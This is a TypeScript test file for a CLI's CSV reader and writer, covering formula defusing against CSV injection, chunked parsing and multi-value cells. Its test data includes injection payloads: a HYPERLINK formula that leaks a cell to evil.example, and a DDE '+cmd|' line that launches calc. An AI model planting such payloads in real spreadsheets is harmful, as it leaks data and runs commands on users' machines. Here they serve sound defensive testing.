/**
 * The CLI's CSV (docs/cli.md, "Values in CSV"): records as spreadsheets write them, read
 * in pieces of any size with the same result as whole; cells that a spreadsheet would run
 * as formulas written with a `'` before them (OWASP's advice against CSV injection,
 * issue #46 item 8) and read back as they were.
 */
import { defuseFormula, joinValues, restoreFormula, splitValues } from '../../src/domain/csvCells.js';
import { CsvReader, formatCsvRecord, parseCsv, type CsvRecord } from '../../src/cli/files/csvFile.js';
import { CliError } from '../../src/cli/errors.js';

/** The text read in pieces cut at the given sizes (repeated). */
function readInPieces(text: string, sizes: readonly number[]): CsvRecord[] {
  const reader = new CsvReader('t.csv');
  const out: CsvRecord[] = [];
  for (let at = 0, k = 0; at < text.length; k++) {
    const size = Math.max(1, sizes[k % sizes.length]!);
    out.push(...reader.push(text.slice(at, at + size)));
    at += size;
  }
  return [...out, ...reader.finish()];
}

/** A small deterministic generator, so a failure names its seed. */
function random(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const ALPHABET = ['a', 'Z', '1', ' ', ',', '"', '\n', '\r', '\r\n', '|', '\\', "'", '=', '+', '-', '@', '\t', 'é', '😀', '\ufeff'];

function randomCell(next: () => number): string {
  let cell = '';
  const length = Math.floor(next() * 8);
  for (let i = 0; i < length; i++) cell += ALPHABET[Math.floor(next() * ALPHABET.length)];
  return cell;
}

describe('formulas are defused on the way out and restored on the way in', () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)*cmd|...', "'@SUM(1+1)*cmd|..."],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ["'already quoted", "''already quoted"],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
  ])('%j is written %j and read back as it was', (cell, written) => {
    expect(formatCsvRecord([cell])).toBe(written);
    expect(parseCsv(`${written}\n`, 't.csv')).toEqual([{ line: 1, cells: [cell] }]);
  });

  test('every written cell that starts with =, +, -, @, a tab or a CR starts with a quote mark once unquoted', () => {
    const next = random(46);
    for (let i = 0; i < 2000; i++) {
      const cell = randomCell(next);
      const written = defuseFormula(cell);
      expect(/^[=+\-@\t\r]/.test(written)).toBe(false);
      expect(restoreFormula(written)).toBe(cell);
    }
  });
});

describe('reading', () => {
  test('records keep the line they start on; quoted fields hold commas, quotes and line breaks; a BOM and CRLF are read as a spreadsheet writes them', () => {
    const text = '\ufeffurn,a\r\nx,"one, ""two""\nthree"\r\n\r\ny,\n';
    expect(parseCsv(text, 't.csv')).toEqual([
      { line: 1, cells: ['urn', 'a'] },
      { line: 2, cells: ['x', 'one, "two"\nthree'] },
      { line: 5, cells: ['y', ''] },
    ]);
  });

  test('a quote left open is an error naming the line it opened on', () => {
    expect(() => parseCsv('urn,a\nx,"open\nmore\n', 't.csv')).toThrow(CliError);
    expect(() => parseCsv('urn,a\nx,"open\nmore\n', 't.csv')).toThrow('t.csv:2: a quoted field is never closed');
  });

  test('fuzz: any records, written and read back in pieces of any size, come back equal, lines included', () => {
    for (let seed = 1; seed <= 300; seed++) {
      const next = random(seed);
      const records = Array.from({ length: 1 + Math.floor(next() * 6) }, () => Array.from({ length: 1 + Math.floor(next() * 4) }, () => randomCell(next)))
        // A record of one empty cell is an empty line, which readers skip.
        .filter((r) => !(r.length === 1 && r[0] === ''));
      const text = records.map((r) => `${formatCsvRecord(r)}\n`).join('');
      const whole = parseCsv(text, 't.csv');
      expect(whole.map((r) => r.cells)).toEqual(records);
      const sizes = Array.from({ length: 5 }, () => 1 + Math.floor(next() * 7));
      expect(readInPieces(text, sizes)).toEqual(whole);
      // Each record's line: the first, then after the lines its predecessors spanned.
      const lines = records.map((_, i) => 1 + records.slice(0, i).reduce((n, r) => n + formatCsvRecord(r).split('\n').length, 0));
      expect(whole.map((r) => r.line)).toEqual(lines);
    }
  });

  test('several values in one cell: | separates them, \\ escapes | and \\ inside a value', () => {
    const values = ['a|b', 'c\\d', '', '=x'];
    expect(splitValues(joinValues(values))).toEqual(values);
    expect(splitValues('')).toEqual([]);
    expect(splitValues('plain')).toEqual(['plain']);
    expect(splitValues('a\\')).toEqual(['a\\']);
    expect(splitValues('|')).toEqual(['', '']);
  });

  test('any list of values joined and split again is the same list (one empty value: none)', () => {
    const next = random(16);
    for (let i = 0; i < 2000; i++) {
      const values = Array.from({ length: 1 + Math.floor(next() * 4) }, () => randomCell(next));
      // One empty value is an empty cell, which holds none.
      expect(splitValues(joinValues(values))).toEqual(values.length === 1 && values[0] === '' ? [] : values);
    }
  });
});
